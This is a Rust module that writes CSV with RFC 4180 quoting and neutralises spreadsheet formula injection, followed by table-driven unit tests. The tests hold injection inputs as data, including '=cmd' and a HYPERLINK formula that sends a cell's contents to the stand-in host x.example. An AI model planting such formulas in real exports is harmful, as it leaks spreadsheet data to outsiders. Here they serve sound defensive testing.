//! The writer: RFC 4180 quoting and formula neutralisation (see the module above for the
//! rules). Hand-written rather than csv-core's because `--detail` writes tens of millions of
//! fields and almost none needs any care: one pass over the bytes decides that, and the field
//! is then copied as is.

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

/// Whether `text` is a plain number: an optional sign, digits, and optionally `.` and digits.
/// `+` and digits is also how an E.164 phone number is written.
pub fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = match digits.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (digits, None),
    };
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// Whether a spreadsheet would read `text` as a formula, so the writer must neutralise it.
pub fn starts_like_formula(text: &str) -> bool {
    text.as_bytes()
        .first()
        .is_some_and(|b| FORMULA_STARTS.contains(b))
        && !is_plain_number(text)
}

/// The character that makes `text` a formula to a spreadsheet, if it starts with one. For
/// names that must never be numbers (market names), which input refuses outright.
pub fn formula_start(text: &str) -> Option<char> {
    text.chars()
        .next()
        .filter(|&c| c.is_ascii() && FORMULA_STARTS.contains(&(c as u8)))
}

/// Whether `text` must be quoted (RFC 4180).
fn needs_quotes(text: &str) -> bool {
    text.bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\n' | b'\r'))
}

/// Appends `text` as one CSV field (without a separator).
#[inline]
pub fn push_field(out: &mut String, text: &str) {
    let quote = needs_quotes(text);
    // Checked second: most fields start with a letter or a digit and end the test at once.
    let neutralise = starts_like_formula(text);
    if !quote && !neutralise {
        out.push_str(text);
        return;
    }
    if quote {
        out.push('"');
    }
    if neutralise {
        out.push('\'');
    }
    if quote {
        for (i, part) in text.split('"').enumerate() {
            if i > 0 {
                out.push_str("\"\"");
            }
            out.push_str(part);
        }
        out.push('"');
    } else {
        out.push_str(text);
    }
}

/// Appends one record: the fields separated by commas, then `\n`.
pub fn push_record<'t>(out: &mut String, fields: impl IntoIterator<Item = &'t str>) {
    for (i, field) in fields.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_field(out, field);
    }
    out.push('\n');
}

/// One record as a string (see `push_record`).
pub fn record<'t>(fields: impl IntoIterator<Item = &'t str>) -> String {
    let mut out = String::new();
    push_record(&mut out, fields);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn field(text: &str) -> String {
        let mut out = String::new();
        push_field(&mut out, text);
        out
    }

    #[test]
    fn fields_are_quoted_and_neutralised_as_a_table_says() {
        let table: &[(&str, &str)] = &[
            // Plain text and numbers: copied.
            ("India", "India"),
            (
                "Rest of Central & Eastern Europe",
                "Rest of Central & Eastern Europe",
            ),
            ("", ""),
            ("0.0118", "0.0118"),
            ("1000", "1000"),
            ("PN1", "PN1"),
            ("a=b", "a=b"),
            ("São Paulo", "São Paulo"),
            ("Türkiye 🇹🇷", "Türkiye 🇹🇷"),
            // Numbers with a sign, E.164 numbers: no formula, kept.
            ("-5", "-5"),
            ("-0.25", "-0.25"),
            ("+0.25", "+0.25"),
            ("+919876543210", "+919876543210"),
            // Each formula start.
            ("=1+2", "'=1+2"),
            ("+1 809 555 0123", "'+1 809 555 0123"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "\"'\rcmd\""),
            // Almost numbers are text, so neutralised.
            ("+", "'+"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("+5.", "'+5."),
            ("-1e5", "'-1e5"),
            ("+91 98765", "'+91 98765"),
            ("-١٢", "'-١٢"),
            // Quoting.
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("\"", "\"\"\"\""),
            ("two\nlines", "\"two\nlines\""),
            ("cr\rhere", "\"cr\rhere\""),
            // Both: the `'` goes inside the quotes.
            (
                "=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")",
                "\"'=HYPERLINK(\"\"https://x.example/?\"\"&B2,\"\"rates\"\")\"",
            ),
            ("@a,b", "\"'@a,b\""),
            ("-\n", "\"'-\n\""),
        ];
        for &(text, written) in table {
            assert_eq!(field(text), written, "field {text:?}");
        }
    }

    #[test]
    fn plain_numbers_are_told_from_text() {
        for number in ["0", "-0", "+1", "12.50", "-0.001", "+919876543210"] {
            assert!(is_plain_number(number), "{number}");
        }
        for text in [
            "", "+", "-", ".5", "5.", "1.2.3", "+-1", "1,5", " 1", "1e3", "0x1",
        ] {
            assert!(!is_plain_number(text), "{text}");
        }
    }

    #[test]
    fn formula_start_names_the_character() {
        assert_eq!(formula_start("=A1"), Some('='));
        assert_eq!(formula_start("+91"), Some('+'));
        assert_eq!(formula_start("\tx"), Some('\t'));
        assert_eq!(formula_start("India"), None);
        assert_eq!(formula_start(""), None);
        assert_eq!(formula_start("＝A1"), None);
    }

    #[test]
    fn records_join_fields_and_end_with_a_newline() {
        assert_eq!(
            record(["IN", "=cmd", "1,000", "", "-3"]),
            "IN,'=cmd,\"1,000\",,-3\n"
        );
        assert_eq!(record([]), "\n");
        let mut out = String::from("a\n");
        push_record(&mut out, ["b"]);
        assert_eq!(out, "a\nb\n");
    }
}
